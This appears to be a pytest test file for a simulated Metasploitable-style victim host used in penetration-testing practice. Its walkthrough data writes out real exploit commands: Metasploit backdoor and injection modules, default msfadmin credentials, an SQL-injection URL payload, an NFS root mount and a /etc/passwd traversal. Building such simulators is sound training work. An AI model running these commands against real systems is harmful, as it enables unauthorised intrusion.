"""Simulated victim host: scans, exploit walkthroughs, determinism."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from penheal.engine import Command, CommandChannel
from penheal.simulator import (
    HostModel,
    SimService,
    SimulatorBackend,
    SimWeakness,
    _match_weakness,
    ground_truth,
    load_host_model,
)

TARGET = "10.0.2.4"
EXPECTED_PORTS = {21, 22, 23, 25, 53, 80, 2049, 3306, 5432, 6667}


def msf(batch):
    return Command(batch, CommandChannel.MSFCONSOLE)


BUNDLED_HOST = load_host_model()


@pytest.fixture(scope="module")
def host():
    return BUNDLED_HOST


# A first word of either grammar, then the target, a number in digits of any script, and
# more words, so commands reach the port, module and option parsers as well as the fallbacks.
_FIRST_WORDS = ["nc", "telnet", "curl", "wget", "ftp", "nmap", "ping", "ssh", "showmount",
                "use", "set", "search", "exploit"]
_WORDS = [TARGET, ";", ":", "\n", "RHOSTS", "RPORT", "21", "6667", "70000", "0",
          "exploit/unix/ftp/vsftpd_234_backdoor"]
_words = st.lists(st.one_of(st.sampled_from(_WORDS), st.text(max_size=4)), max_size=6)
_number = st.text(st.characters(categories=["Nd", "No"]), min_size=1, max_size=5)
_command_text = st.one_of(
    st.text(),
    st.builds(lambda first, rest: " ".join([first, *rest]), st.sampled_from(_FIRST_WORDS), _words),
    st.builds(lambda first, number, rest: " ".join([first, TARGET, number, *rest]),
              st.sampled_from(_FIRST_WORDS), _number, _words))


# One scripted sequence per ground-truth weakness row, each well under the
# six-command reachability bound.
WALKTHROUGHS = {
    "ftp-backdoor": [msf(f"use exploit/unix/ftp/vsftpd_234_backdoor; set RHOSTS {TARGET}; exploit")],
    "weak-passwords": [Command(f"sshpass -p msfadmin ssh msfadmin@{TARGET} id")],
    "telnet-default-creds": [
        msf(
            f"use auxiliary/scanner/telnet/telnet_login; set RHOSTS {TARGET}; "
            "set USERNAME msfadmin; set PASSWORD msfadmin; run"
        )
    ],
    "smtp-open-port": [Command(f"nc {TARGET} 25")],
    "dns-poisoning": [Command(f"dig @{TARGET} version.bind chaos txt")],
    "http-sql-injection": [
        Command(
            f"curl \"http://{TARGET}/mutillidae/index.php?page=user-info.php"
            "&username=' OR '1'='1\""
        )
    ],
    "nfs-root-access": [
        Command(f"showmount -e {TARGET}"),
        Command(f"mount -t nfs {TARGET}:/ /mnt/nfs"),
    ],
    "irc-backdoor": [msf(f"use exploit/unix/irc/unreal_ircd_3281_backdoor; set RHOST {TARGET}; exploit")],
    "samba-symlink": [msf(f"use exploit/multi/samba/usermap_script; set RHOSTS {TARGET}; exploit")],
    "php-cgi-injection": [msf(f"use exploit/multi/http/php_cgi_arg_injection; set RHOSTS {TARGET}; exploit")],
}


class TestGroundTruth:
    def test_ten_rows(self, host):
        assert len(ground_truth(host)) == 10

    def test_contains_ftp_backdoor(self, host):
        assert any(
            (v.id, v.service, v.port) == ("CVE-2011-2523", "ftp", 21)
            for v in ground_truth(host)
        )

    def test_contains_irc_backdoor(self, host):
        assert any(
            (v.id, v.service, v.port) == ("CVE-2010-2075", "irc", 6667)
            for v in ground_truth(host)
        )

    def test_only_two_public_cves(self, host):
        ids = [v.id for v in ground_truth(host)]
        assert sorted(i for i in ids if i != "CVE-NA") == ["CVE-2010-2075", "CVE-2011-2523"]


def rows_named_in(output, host):
    """The row ids of the weaknesses whose description the output names."""
    return {w.row_id for w in host.weakness_rows() if w.description in output}


class TestScan:
    def test_full_scan_lists_exactly_the_ten_ports(self, host):
        output = SimulatorBackend(host).run(Command(f"nmap -p- {TARGET}"))[0]
        ports = {int(m) for m in re.findall(r"^(\d+)/tcp", output, re.MULTILINE)}
        assert ports == EXPECTED_PORTS

    def test_vuln_scripts_expose_cve_hints(self, host):
        output = SimulatorBackend(host).run(Command(f"nmap --script vuln {TARGET}"))[0]
        assert "CVE-2011-2523" in output
        assert "CVE-2010-2075" in output
        assert "sql-injection" in output

    def test_scan_soundness(self, host):
        output = SimulatorBackend(host).run(Command(f"nmap -sV {TARGET}"))[0]
        reported = {int(m) for m in re.findall(r"^(\d+)/tcp", output, re.MULTILINE)}
        open_ports = {s.port for s in host.services}
        assert reported <= open_ports

    def test_wrong_address_seems_down(self, host):
        output = SimulatorBackend(host).run(Command("nmap -p- 192.168.99.99"))[0]
        assert "down" in output.lower()


class TestExploits:
    def test_usermap_script_opens_session_and_marks_samba(self, host):
        output = SimulatorBackend(host).run(WALKTHROUGHS["samba-symlink"][0])[0]
        assert "Command shell session 1 opened" in output
        assert rows_named_in(output, host) == {"samba-symlink"}

    def test_vsftpd_backdoor_yields_root_shell(self, host):
        output = SimulatorBackend(host).run(WALKTHROUGHS["ftp-backdoor"][0])[0]
        assert "uid=0(root)" in output
        assert rows_named_in(output, host) == {"ftp-backdoor"}

    def test_telnet_default_credentials(self, host):
        output = SimulatorBackend(host).run(WALKTHROUGHS["telnet-default-creds"][0])[0]
        assert "Default credentials accepted on telnet login" in output

    def test_wrong_rhost_fails(self, host):
        output = SimulatorBackend(host).run(
            msf("use exploit/unix/ftp/vsftpd_234_backdoor; set RHOSTS 10.9.9.9; exploit"))[0]
        assert "could not connect" in output
        assert rows_named_in(output, host) == set()

    def test_wrong_credentials_rejected(self, host):
        output = SimulatorBackend(host).run(Command(f"sshpass -p hunter2 ssh admin@{TARGET}"))[0]
        assert "Permission denied" in output
        assert rows_named_in(output, host) == set()

    def test_unknown_module_creates_no_session(self, host):
        command = msf(f"use exploit/unix/misc/made_up; set RHOSTS {TARGET}; exploit")
        output = SimulatorBackend(host).run(command)[0]
        assert "no session was created" in output
        assert rows_named_in(output, host) == set()

    def test_unrecognized_shell_command(self, host):
        output = SimulatorBackend(host).run(Command(f"frobnicate {TARGET}"))[0]
        assert "command not found" in output


class TestWalkthroughs:
    def test_every_weakness_reachable(self, host):
        assert set(WALKTHROUGHS) == {w.row_id for w in host.weakness_rows()}
        for row_id, commands in WALKTHROUGHS.items():
            assert len(commands) <= 6
            outputs = [SimulatorBackend(host).run(command)[0] for command in commands]
            assert rows_named_in(outputs[-1], host) == {row_id}, row_id

    def test_conservation_against_ground_truth(self, host):
        truth = {v.description for v in ground_truth(host)}
        for commands in WALKTHROUGHS.values():
            output = SimulatorBackend(host).run(commands[-1])[0]
            assert len([d for d in truth if d in output]) == 1

    def test_determinism_across_repeated_runs(self, host):
        def run_all():
            return [SimulatorBackend(host).run(c)[0]
                    for commands in WALKTHROUGHS.values() for c in commands]

        assert run_all() == run_all()


class TestOutputs:
    def test_every_output_carries_sim_banner(self, host):
        """Each output opens with the exact banner line, and carries it once."""
        commands = [
            Command(f"nmap {TARGET}"),
            Command(f"nmap --script vuln {TARGET}"),
            Command("nmap 10.9.9.9"),
            Command(f"ping -c1 {TARGET}"),
            Command(f"showmount -e {TARGET}"),
            Command("garbage"),
            Command("curl http://10.9.9.9/"),  # out of target
            Command(f"sshpass -p msfadmin ssh msfadmin@{TARGET} id"),  # shell hit
            Command(f"ssh root@{TARGET}"),  # shell miss
            Command(f"ftp {TARGET}"),
            msf("search vsftpd"),
            WALKTHROUGHS["ftp-backdoor"][0],  # msf exploit
            msf(f"use exploit/unix/misc/none; set RHOSTS {TARGET}; exploit"),  # msf miss
        ]
        banner = f"[sim] simulated host {TARGET} (metasploitable profile)"
        for command in commands:
            output = SimulatorBackend(host).run(command)[0]
            assert output.splitlines()[0] == banner, command
            assert output.count("[sim]") == 1, command

    @settings(max_examples=300, deadline=None)
    @given(_command_text, st.sampled_from(CommandChannel))
    @example(f"nc {TARGET} \u00b2", CommandChannel.SHELL)  # a superscript two: once a ValueError
    def test_any_text_exits_0_behind_the_banner(self, text, channel):
        """Output is a pure function of host and command, on either channel: no text raises,
        and every output opens with the banner line."""
        output, status = SimulatorBackend(BUNDLED_HOST).run(Command(text, channel))
        assert status == 0
        assert output.startswith(f"[sim] simulated host {TARGET} (metasploitable profile)\n")

    def test_search_lists_known_modules(self, host):
        output = SimulatorBackend(host).run(msf("search samba"))[0]
        assert "exploit/multi/samba/usermap_script" in output

    def test_banner_grab(self, host):
        output = SimulatorBackend(host).run(Command(f"ftp {TARGET}"))[0]
        assert "vsftpd 2.3.4" in output


class TestBackendAdapter:
    def test_a_reused_backend_returns_a_fresh_backends_output(self, host):
        """A backend keeps no state between commands, and every command exits 0."""
        backend = SimulatorBackend(host)
        for row_id in ("ftp-backdoor", "irc-backdoor"):
            command = WALKTHROUGHS[row_id][0]
            assert backend.run(command) == SimulatorBackend(host).run(command)


def reference_match(host, command_text):
    """The scan the trigger table replaces: per command, every service's weaknesses in order,
    each trigger expanded per credential pair, lowered and split on '*' afresh."""
    lowered = command_text.lower()
    for service in host.services:
        for weakness in service.weaknesses:
            patterns = []
            for trigger in weakness.triggers:
                if "{user}" in trigger or "{pass}" in trigger:
                    patterns += [trigger.replace("{user}", u).replace("{pass}", p)
                                 for u, p in host.credentials]
                else:
                    patterns.append(trigger)
            for pattern in patterns:
                pos = 0
                for part in (p for p in pattern.lower().split("*") if p):
                    found = lowered.find(part, pos)
                    if found < 0:
                        break
                    pos = found + len(part)
                else:
                    return weakness
    return None


_PIECES = ["a", "B", "ab", "Ba", " ", "/", "*", "**", "{user}", "{pass}", "{user}:{pass}"]
_triggers = st.lists(st.sampled_from(_PIECES), max_size=5).map("".join)
_names = st.text("aAbB*{}", max_size=3)


@st.composite
def host_and_commands(draw):
    services = []
    for port in range(1, draw(st.integers(1, 3)) + 1):
        weaknesses = tuple(
            SimWeakness(f"row-{port}-{i}", "CVE-NA", "info", "svc", port, "d", "m",
                        tuple(draw(st.lists(_triggers, min_size=1, max_size=3))))
            for i in range(draw(st.integers(0, 3))))
        services.append(SimService(f"svc{port}", port, weaknesses=weaknesses))
    credentials = tuple(draw(st.lists(st.tuples(_names, _names), max_size=3)))
    host = HostModel("10.0.2.4", tuple(services), credentials=credentials)
    pieces = _PIECES[:6] + [user for user, _ in credentials] + [pw for _, pw in credentials]
    commands = draw(st.lists(st.lists(st.sampled_from(pieces), max_size=8).map("".join),
                             min_size=1, max_size=6))
    return host, commands


class TestTriggerTable:
    @settings(max_examples=300, deadline=None)
    @given(host_and_commands())
    @example((HostModel("h", (SimService("s", 1, weaknesses=(
        SimWeakness("w", "CVE-NA", "info", "s", 1, "d", "m", ("LOGIN {user}*{pass}",)),)),),
        credentials=(("Root", "Toor"), ("x", "y"))), ["login root:toor", "login x", "login"]))
    def test_matches_the_reference_scan(self, case):
        """On hosts with credentials, the table built once per backend picks the same weakness
        (the same row, first in scan order) as the scan it replaced, for any command."""
        host, commands = case
        sim = SimulatorBackend(host)
        for command in commands:
            assert _match_weakness(sim, command.lower()) is reference_match(host, command)

    def test_the_table_is_built_once_per_backend(self, host, monkeypatch):
        backend = SimulatorBackend(host)
        monkeypatch.setattr(HostModel, "credentials", property(lambda _: pytest.fail("read")))
        assert "Login successful." in backend.run(WALKTHROUGHS["weak-passwords"][0])[0]


class TestHostModelLoading:
    def test_custom_model_file(self, tmp_path, host):
        import json

        doc = {
            "address": "10.1.1.1",
            "hostname": "custom",
            "credentials": [["a", "b"]],
            "services": [
                {
                    "name": "ftp",
                    "port": 21,
                    "banner": "vsftpd 2.3.4",
                    "visible": True,
                    "weaknesses": [
                        {
                            "row_id": "only",
                            "cve": "CVE-NA",
                            "effect": "shell",
                            "canonical_service": "ftp",
                            "canonical_port": 21,
                            "description": "d",
                            "method": "m",
                            "triggers": ["trigger_me"],
                        }
                    ],
                }
            ],
        }
        path = tmp_path / "host.json"
        path.write_text(json.dumps(doc))
        custom = load_host_model(path)
        assert custom.address == "10.1.1.1"
        assert len(ground_truth(custom)) == 1

    def test_duplicate_ports_rejected(self, tmp_path):
        import json

        doc = {
            "address": "10.1.1.1",
            "services": [
                {"name": "a", "port": 80, "weaknesses": []},
                {"name": "b", "port": 80, "weaknesses": []},
            ],
        }
        path = tmp_path / "host.json"
        path.write_text(json.dumps(doc))
        with pytest.raises(ValueError):
            load_host_model(path)

    def test_custom_model_prints_its_own_text(self, tmp_path):
        import json

        doc = {
            "address": "10.1.1.1",
            "modules": ["auxiliary/scanner/gopher/gopher_enum"],
            "services": [
                {
                    "name": "gopher",
                    "port": 70,
                    "banner": "gophernicus 3.1",
                    "vuln_script": ["| gopher-traversal:", "|   VULNERABLE: selector traversal"],
                    "weaknesses": [
                        {
                            "row_id": "gopher-traversal",
                            "cve": "CVE-NA",
                            "effect": "info-leak",
                            "canonical_service": "gopher",
                            "canonical_port": 70,
                            "description": "Selector traversal reads files outside the root",
                            "method": "crafted selector",
                            "triggers": ["gopher*../*"],
                            "output": ["root:x:0:0:root:/root:/bin/sh"],
                        }
                    ],
                }
            ],
        }
        path = tmp_path / "host.json"
        path.write_text(json.dumps(doc))
        custom = load_host_model(path)
        scan = SimulatorBackend(custom).run(Command("nmap --script vuln 10.1.1.1"))[0]
        assert "70/tcp   open  gopher      gophernicus 3.1\n| gopher-traversal:\n" in scan
        leak = SimulatorBackend(custom).run(Command("gopher 10.1.1.1 ../../etc/passwd"))[0]
        assert leak.endswith(
            "Information disclosed: Selector traversal reads files outside the root.\n"
            "root:x:0:0:root:/root:/bin/sh"
        )
        search = SimulatorBackend(custom).run(msf("search gopher"))[0]
        assert "0  auxiliary/scanner/gopher/gopher_enum" in search

    def test_custom_model_shows_no_bundled_text(self, tmp_path):
        import json

        doc = {
            "address": "10.1.1.1",
            "services": [{"name": "ftp", "port": 21, "banner": "proftpd 1.3.5"}],
        }
        path = tmp_path / "host.json"
        path.write_text(json.dumps(doc))
        custom = load_host_model(path)
        scan = SimulatorBackend(custom).run(Command("nmap --script vuln 10.1.1.1"))[0]
        assert "proftpd 1.3.5" in scan
        assert "CVE-2011-2523" not in scan and "VULNERABLE" not in scan
        search = SimulatorBackend(custom).run(msf("search login"))[0]
        assert "_login" not in search
        assert "No results from search" in search


class TestGrammarEdges:
    """The statements and commands the walkthroughs do not use."""

    def run(self, host, command):
        return SimulatorBackend(host).run(command)[0].split("\n", 1)[1]  # without the banner

    def test_msf_skips_exit_back_and_quit_and_names_an_unknown_statement(self, host):
        output = self.run(host, msf("use exploit/x; back; exit\nquit; frobnicate now"))
        assert output.splitlines() == ["msf6 >", "msf6 > use exploit/x",
                                       "[-] Unknown command: frobnicate now"]

    def test_msf_exploit_without_a_module(self, host):
        assert self.run(host, msf(f"set RHOSTS {TARGET}; exploit")).splitlines() == [
            "msf6 >", f"RHOSTS => {TARGET}", "[-] No module selected"]

    def test_ping_of_another_host_has_no_route(self, host):
        assert self.run(host, Command("ping -c1 10.9.9.9")) == "ping: no route to host"

    @pytest.mark.parametrize("url", [f"http://{TARGET}/", f"{TARGET}:8080"])
    def test_curl_without_a_served_port_gets_port_80s_banner(self, host, url):
        assert self.run(host, Command(f"curl {url}")) == (
            f"Connected to {TARGET}.\n80/http banner: Apache httpd 2.2.8 (Ubuntu) DAV/2")

    @pytest.mark.parametrize("port", ["\u00b2", "\u0662\u0661", "\uff12\uff11"])
    def test_only_ascii_digits_name_a_port(self, host, port):
        """A superscript two, Arabic-Indic 21 and fullwidth 21 are digits to ``str.isdigit``
        but name no port, as ASCII 21 would."""
        assert self.run(host, Command(f"nc {TARGET} {port}")) == "Connection refused"
        assert self.run(host, Command(f"nc {TARGET} 21")).endswith("21/ftp banner: vsftpd 2.3.4")

    @pytest.mark.parametrize("client", ["nc", "telnet"])
    def test_a_port_with_no_service_refuses_the_connection(self, host, client):
        assert self.run(host, Command(f"{client} {TARGET} 4444")) == "Connection refused"
